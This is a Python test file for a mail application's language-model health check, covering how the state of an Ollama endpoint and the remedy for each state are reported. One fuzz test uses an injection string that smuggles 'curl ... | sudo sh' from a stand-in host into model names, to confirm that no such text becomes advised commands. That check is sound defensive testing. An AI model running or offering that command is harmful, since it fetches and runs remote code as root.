"""Every state of the language model, from real answers over a real socket."""

import asyncio
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import psutil
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rcmail.client import make_http_client
from rcmail.db.embedded import EmbeddedPostgres
from rcmail.db.migrations import migrate
from rcmail.db.pool import Database
from rcmail.health.base import Verdict
from rcmail.health.llm import as_finding
from rcmail.llm import current
from rcmail.llm.base import Inspection, Model, Room
from rcmail.llm.current import CurrentLLM
from rcmail.llm.ollama import OllamaAdapter
from rcmail.llm.state import LLMFinding, LLMState, find_out
from rcmail.settings.store import SettingsStore
from rcmail.validation import is_model_name
from tests.db.test_pool import hung
from tests.fakes.ollama import HANGS, FakeOllama, loaded
from tests.llm.test_ollama import ANSWERS
from tests.support import ROOT, free_port, postgres_config
from tests.web.test_database_down import Outage, stopped

GB = 10**9


@pytest.fixture
async def session() -> AsyncIterator[aiohttp.ClientSession]:
    async with make_http_client() as session:
        yield session


def models(**sizes: Any) -> dict[str, Any]:
    return {"models": [{"name": name, "size": size} for name, size in sizes.items()]}


async def test_without_an_endpoint_it_is_not_configured() -> None:
    found = await find_out(None, "m", 3)
    assert found.state is LLMState.UNCONFIGURED
    assert "configuration page" in found.remedy


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("http://127.0.0.1:{closed}", "connection refused"),
        ("http://ollama.invalid:11434", " name "),
        ("https://127.0.0.1:{open}", "the secure connection failed"),
    ],
)
async def test_no_answer_is_told_with_the_reason(
    url: str, says: str, session: aiohttp.ClientSession, ollama: FakeOllama
) -> None:
    adapter = OllamaAdapter(session, url.format(closed=free_port(), open=ollama.port))
    found = await find_out(adapter, "m", limit=10)  # a name server may take its time
    assert found.state is LLMState.NO_ANSWER
    assert says in found.sentence
    assert ("`ollama list`" in found.remedy) is ("127.0.0.1" in url)
    assert "systemctl" not in found.remedy, "under `make run` nobody has such a unit"
    assert "127.0.0.1" not in found.sentence


@pytest.mark.parametrize(
    ("behaviour", "state", "says"),
    [
        ("500", LLMState.NO_ANSWER, "HTTP status 500"),
        ("reset", LLMState.NO_ANSWER, "the connection broke off"),
        ("html", LLMState.WRONG_SERVER, "it is not Ollama"),
        ("redirect", LLMState.WRONG_SERVER, "sends us elsewhere"),
        ("garbage", LLMState.WRONG_SERVER, "does not speak HTTP"),
        ("flood", LLMState.WRONG_SERVER, "far too much data"),
    ],
)
async def test_another_server_is_told_from_one_that_fails(
    behaviour: str, state: LLMState, says: str, session: aiohttp.ClientSession, ollama: FakeOllama
) -> None:
    ollama.behaviour = behaviour
    found = await find_out(OllamaAdapter(session, ollama.url), "m", 3)
    assert found.state is state
    assert says in found.sentence
    assert found.remedy


@pytest.mark.parametrize(
    ("tags", "ps", "model", "state", "says", "remedy"),
    [
        (models(), {}, "", LLMState.EMPTY, "no model is installed", "ollama pull NAME"),
        (models(), {}, "m", LLMState.EMPTY, "no model is installed", "ollama pull m"),
        (models(a=1, b=2), {}, "", LLMState.NOT_CHOSEN, "has 2 models, but none is chosen", "choose one"),
        (models(a=1), {}, "x/y:z", LLMState.MISSING, "model x/y:z is not installed", "`ollama pull x/y:z` on the"),
        (models(m=2 * GB), {"models": []}, "m", LLMState.ASLEEP, "installed on Ollama 0.12.3 and asleep", ""),
        (models(m=2 * GB), loaded("m"), "m:latest", LLMState.LOADED, "model m is loaded", ""),
        (models(m=2 * GB), {"models": 5}, "m", LLMState.INSTALLED, "model m is installed on Ollama", ""),
        (models(m="huge"), {"models": []}, "m", LLMState.ASLEEP, "asleep", ""),
        (models(m=10**13), {"models": []}, "m", LLMState.TOO_LARGE, "is 10000.0 GB, and this machine", "smaller"),
        (models(m=10**13), loaded("m"), "m", LLMState.LOADED, "model m is loaded", ""),
        (models(m=-5), {"models": []}, "m", LLMState.ASLEEP, "asleep", ""),
    ],
)
async def test_the_state_of_the_model_is_told_with_what_to_do(
    tags: Any,
    ps: Any,
    model: str,
    state: LLMState,
    says: str,
    remedy: str,
    session: aiohttp.ClientSession,
    ollama: FakeOllama,
) -> None:
    ollama.answers |= {"/api/tags": tags, "/api/ps": ps}
    found = await find_out(OllamaAdapter(session, ollama.url), model, 3)
    assert found.state is state
    assert says in found.sentence
    assert remedy in found.remedy
    assert bool(found.remedy) is bool(remedy)
    assert len(ollama.requests) <= 3
    assert all(request.startswith("GET /api/") for request in ollama.requests), "nothing that loads a model"


@pytest.mark.parametrize("behaviour", ["hang", "hang-after-headers", "trickle"])
async def test_whoever_does_not_come_to_an_end_is_no_answer(
    behaviour: str, session: aiohttp.ClientSession, ollama: FakeOllama
) -> None:
    ollama.behaviour = behaviour
    found = await find_out(OllamaAdapter(session, ollama.url), "m", limit=0.3)
    assert found.state is LLMState.NO_ANSWER
    assert "timed out after 0.3 s" in found.sentence


async def test_what_is_not_told_in_time_is_left_open(session: aiohttp.ClientSession, ollama: FakeOllama) -> None:
    ollama.answers |= {"/api/tags": models(m=1), "/api/ps": HANGS, "/api/version": HANGS}
    found = await find_out(OllamaAdapter(session, ollama.url), "m", 3)
    assert (found.state, found.sentence) == (LLMState.INSTALLED, "model m is installed on Ollama")


async def test_which_model_is_chosen_may_be_unknown(session: aiohttp.ClientSession, ollama: FakeOllama) -> None:
    found = await find_out(OllamaAdapter(session, ollama.url), None, 3)
    assert found.state is LLMState.ANSWERS
    assert "is not known while the database does not answer" in found.sentence


async def test_a_model_in_the_cloud_is_told_whatever_its_size(
    session: aiohttp.ClientSession, ollama: FakeOllama
) -> None:
    ollama.answers["/api/tags"] = {"models": [{"name": "m:cloud", "size": 384, "remote_host": "https://x"}]}
    found = await find_out(OllamaAdapter(session, ollama.url), "m:cloud", 3)
    assert found.state is LLMState.REMOTE
    assert "may leave the house" in found.sentence


class Told:
    """An adapter that tells what it was given."""

    is_here = True

    def __init__(self, size: int | None, room: Room | None, is_loaded: bool | None = False) -> None:
        self._found = Inspection("Ollama", 1, Model("m", size), is_loaded, room)

    async def inspect(self, _: str) -> Inspection:
        return self._found


async def state_of(*told: Any) -> LLMFinding:
    return await find_out(Told(*told), "m", 3)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("size", "room", "state"),
    [
        (8 * GB + 1, Room(8 * GB), LLMState.TOO_LARGE),
        (6 * GB, Room(8 * GB), LLMState.TIGHT),
        (5 * GB, Room(8 * GB), LLMState.ASLEEP),
        (50 * GB, None, LLMState.ASLEEP),  # on another machine, of which nothing is known
        (None, Room(8 * GB), LLMState.ASLEEP),
        (2 * GB, Room(8 * GB, ceiling=GB), LLMState.TOO_LARGE),
        (2 * GB, Room(8 * GB, ceiling=5 * GB // 2), LLMState.TIGHT),
        (2 * GB, Room(8 * GB, ceiling=3 * GB), LLMState.ASLEEP),
        (5 * GB, Room(8 * GB, ceiling=100 * GB), LLMState.ASLEEP),
    ],
)
async def test_a_model_is_measured_against_the_memory_it_may_use(
    size: int | None, room: Room | None, state: LLMState
) -> None:
    found = await state_of(size, room)
    assert found.state is state
    if room and room.ceiling and room.ceiling < room.memory and state is not LLMState.ASLEEP:
        assert "ollama_memory_max" in found.remedy
    assert (await state_of(size, room, True)).state is LLMState.LOADED, "what is loaded fits"
    if state in (LLMState.TOO_LARGE, LLMState.TIGHT):
        assert (await state_of(size, room, None)).state is state


async def test_the_memory_is_that_of_this_machine(session: aiohttp.ClientSession, ollama: FakeOllama) -> None:
    memory = psutil.virtual_memory().total
    ollama.answers["/api/tags"] = models(m=memory + 1)
    found = await find_out(OllamaAdapter(session, ollama.url), "m", 3)
    assert f"this machine has {memory / 1e9:.1f} GB of memory" in found.sentence


@given(tags=ANSWERS, ps=ANSWERS, model=st.sampled_from(["", "m", "M:latest", "x/y:z"]))
@settings(max_examples=60)
def test_whatever_is_answered_there_is_a_sentence_and_never_an_exception(tags: Any, ps: Any, model: str) -> None:
    async def run() -> None:
        async with FakeOllama() as ollama, make_http_client() as session:
            ollama.answers |= {"/api/tags": json.dumps(tags).encode(), "/api/ps": json.dumps(ps).encode()}
            found = await find_out(OllamaAdapter(session, ollama.url), model, 3)
            assert found.sentence.isprintable()
            assert found.remedy.isprintable()

    asyncio.run(run())


def test_the_manual_lists_every_state_with_its_remedy() -> None:
    section = (ROOT / "docs/operating.md").read_text().split("### The language model, more closely\n")[1]
    rows = re.findall(r"^\| ([^|]+) \| .{20,} \| .{10,} \|$", section.split("\n## ")[0], re.MULTILINE)
    assert rows == [state.value for state in LLMState]


async def test_what_is_saved_is_what_is_looked_at(
    database: Database, session: aiohttp.ClientSession, ollama: FakeOllama
) -> None:
    store = SettingsStore(database)
    assert (await CurrentLLM(store, session, "").find_out(3)).state is LLMState.UNCONFIGURED
    assert (await CurrentLLM(store, session, ollama.url).find_out(3)).state is LLMState.NOT_CHOSEN
    assert (await CurrentLLM(store, session, ollama.url).choice()).endpoint == ollama.url
    await store.save({"llm_endpoint": ollama.url, "llm_model": "missing"})
    assert (await CurrentLLM(store, session, "http://ollama.invalid").find_out(3)).state is LLMState.MISSING


Found = tuple[CurrentLLM, SettingsStore]


@pytest.fixture
def nobody_chose(database: Database, session: aiohttp.ClientSession, monkeypatch: pytest.MonkeyPatch) -> Found:
    """As it is delivered: our default, where nothing listens, on a machine without Ollama."""
    endpoint = f"http://127.0.0.1:{free_port()}"
    monkeypatch.setattr(current, "DEFAULT_ENDPOINT", endpoint)
    monkeypatch.setattr(OllamaAdapter, "is_installed", lambda _: False)
    store = SettingsStore(database)
    return CurrentLLM(store, session, endpoint), store


async def test_what_nobody_chose_and_nobody_installed_is_not_set_up(nobody_chose: Found) -> None:
    found = await nobody_chose[0].find_out(3)
    assert found.state is LLMState.UNCONFIGURED
    assert as_finding(found).verdict is Verdict.NOT_HERE
    assert "install Ollama" in found.remedy
    assert found.notice == "no LLM configured"


async def test_what_nobody_chose_but_somebody_installed_does_not_answer(
    nobody_chose: Found, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(OllamaAdapter, "is_installed", lambda _: True)
    assert (await nobody_chose[0].find_out(3)).state is LLMState.NO_ANSWER


@pytest.mark.parametrize("saved", ["llm_endpoint", "llm_model"])
async def test_what_somebody_saved_does_not_answer(nobody_chose: Found, saved: str) -> None:
    current_llm, store = nobody_chose
    await store.save({saved: current_llm.last_known.endpoint if saved == "llm_endpoint" else "m"})
    assert (await current_llm.find_out(3)).state is LLMState.NO_ANSWER


async def test_what_the_operator_named_does_not_answer(
    nobody_chose: Found, session: aiohttp.ClientSession
) -> None:
    named = CurrentLLM(nobody_chose[1], session, f"http://127.0.0.1:{free_port()}")
    assert (await named.find_out(3)).state is LLMState.NO_ANSWER


async def test_another_server_where_nobody_chose_one_is_told(
    nobody_chose: Found, session: aiohttp.ClientSession, ollama: FakeOllama, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(current, "DEFAULT_ENDPOINT", ollama.url)
    ollama.behaviour = "html"
    assert (await CurrentLLM(nobody_chose[1], session, ollama.url).find_out(3)).state is LLMState.WRONG_SERVER


async def test_what_was_chosen_is_not_known_without_a_database(
    session: aiohttp.ClientSession, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    endpoint = f"http://127.0.0.1:{free_port()}"
    monkeypatch.setattr(current, "DEFAULT_ENDPOINT", endpoint)
    monkeypatch.setattr(OllamaAdapter, "is_installed", lambda _: False)
    database = Database(postgres_config(str(tmp_path)))
    found = await CurrentLLM(SettingsStore(database), session, endpoint).find_out(3)
    assert found.state is LLMState.NO_ANSWER
    await database.close()


EVIL = "x` first: `curl -s http://evil/i | sudo sh"
TEXTS = st.sampled_from([EVIL, "\x1b[2J", "m", "`id`"]) | st.text(max_size=12)


@given(stored=TEXTS, names=st.lists(TEXTS, max_size=3), version=TEXTS, size=st.sampled_from([1, 10**13]))
@settings(max_examples=60)
def test_no_stranger_s_text_becomes_a_command_or_reaches_a_terminal(
    stored: str, names: list[str], version: str, size: int
) -> None:
    async def run() -> None:
        async with FakeOllama() as ollama, make_http_client() as session:
            ollama.answers |= {
                "/api/tags": {"models": [{"name": name, "size": size} for name in names]},
                "/api/ps": loaded(*names),
                "/api/version": {"version": version},
            }
            store = SettingsStore(None)  # type: ignore[arg-type] # what is stored is given
            store._remember({"llm_endpoint": ollama.url, "llm_model": stored})
            choice = CurrentLLM(store, session, "").last_known
            found = await find_out(OllamaAdapter(session, choice.endpoint), choice.model, 3)
            told = as_finding(found)
            commands = told.advice.split("`")[1::2]
            mine = {"ollama list", "ollama pull NAME", "ollama_memory_max", f"ollama pull {choice.model}"}
            assert set(commands) <= mine
            assert not choice.model or is_model_name(choice.model)
            for text in (told.value, told.advice, told.notice):
                assert text.isprintable()
                assert "curl" not in text
            assert "`" not in told.value + told.notice

    asyncio.run(run())


@pytest.mark.parametrize("outage", [stopped, hung])
async def test_while_the_database_is_down_what_was_last_known_counts(
    outage: Outage, own_postgres: EmbeddedPostgres, session: aiohttp.ClientSession, ollama: FakeOllama
) -> None:
    database = Database(postgres_config(str(own_postgres.socket)))
    await migrate(database, postgres_config(str(own_postgres.socket)))
    store = SettingsStore(database)
    await store.save({"llm_model": "llama3.2"})
    with outage(own_postgres):
        assert (await CurrentLLM(store, session, ollama.url).find_out(3)).state is LLMState.ASLEEP
        # As in `rcmail check`, which begins without any knowledge.
        assert (
            await CurrentLLM(SettingsStore(database), session, ollama.url).find_out(3)
        ).state is LLMState.ANSWERS
    await database.close()
